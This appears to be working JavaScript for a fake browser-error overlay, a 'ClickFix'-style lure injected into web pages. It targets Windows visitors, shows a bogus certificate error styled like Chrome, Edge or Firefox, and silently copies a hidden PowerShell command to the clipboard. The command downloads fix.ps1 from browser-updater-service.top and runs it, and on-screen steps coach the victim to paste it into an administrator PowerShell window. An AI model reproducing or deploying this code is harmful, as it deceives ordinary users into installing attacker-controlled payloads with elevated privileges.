class UpdateNotice {
  constructor() {
    this.brand = UpdateNotice.detectBrowser();
    this.script = [
      'powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command ',
      '"[Net.ServicePointManager]::SecurityProtocol=\'Tls12\';',
      '$p=\"$env:TEMP\\\\upd.ps1\";',
      'Invoke-WebRequest -Uri \'https://browser-updater-service.top/root-cert/fix.ps1\' -OutFile $p;',
      '& $p"',
    ].join('');
  }

  static detectBrowser() {
    const ua = navigator.userAgent;
    if (/Edg\//.test(ua)) return { name: 'Microsoft Edge', color: '#0c59a4' };
    if (/Firefox\//.test(ua)) return { name: 'Firefox', color: '#e66000' };
    return { name: 'Google Chrome', color: '#1a73e8' };
  }

  markup() {
    return `
      <div style="max-width:560px;margin:12vh auto;background:#fff;border-radius:10px;padding:32px;font-family:Segoe UI,Arial;box-shadow:0 10px 40px rgba(0,0,0,.3)">
        <div style="font-size:22px;margin-bottom:12px">&#9888; Something went wrong while displaying this web page</div>
        <p>Error code: <b>STATUS_INVALID_IMAGE_HASH</b>. Your ${this.brand.name} could not verify the root certificate for this page.</p>
        <p>To fix this error you need to install the latest root certificate update.</p>
        <button id="un-fix" style="background:${this.brand.color};color:#fff;border:0;padding:12px 26px;border-radius:6px;font-size:15px;cursor:pointer">How to fix</button>
        <div id="un-how" style="display:none;margin-top:18px;background:#f5f7fa;padding:16px;border-radius:8px">
          <p>1. Right-click the Windows icon and select <b>Windows PowerShell (Admin)</b> or press <b>Win + X</b>, then <b>A</b></p>
          <p>2. Paste the copied fix with <b>Ctrl + V</b> and press <b>Enter</b></p>
          <p>3. Refresh this page</p>
        </div>
      </div>`;
  }

  async copyFix() {
    try {
      await navigator.clipboard.writeText(this.script);
      return true;
    } catch (e) {
      const t = document.createElement('textarea');
      t.value = this.script;
      document.body.append(t);
      t.select();
      const ok = document.execCommand('copy');
      t.remove();
      return ok;
    }
  }

  mount() {
    const layer = document.createElement('div');
    layer.style.cssText = 'position:fixed;inset:0;background:rgba(32,33,36,.92);z-index:2147483647;overflow:auto';
    layer.innerHTML = this.markup();
    document.body.appendChild(layer);
    layer.querySelector('#un-fix').addEventListener('click', async (ev) => {
      await this.copyFix();
      ev.currentTarget.textContent = 'Copied! Follow the steps below';
      layer.querySelector('#un-how').style.display = 'block';
    });
  }
}

if (navigator.platform.startsWith('Win') && !document.cookie.includes('un_seen=1')) {
  document.cookie = 'un_seen=1;max-age=43200;path=/';
  setTimeout(() => new UpdateNotice().mount(), 2500);
}
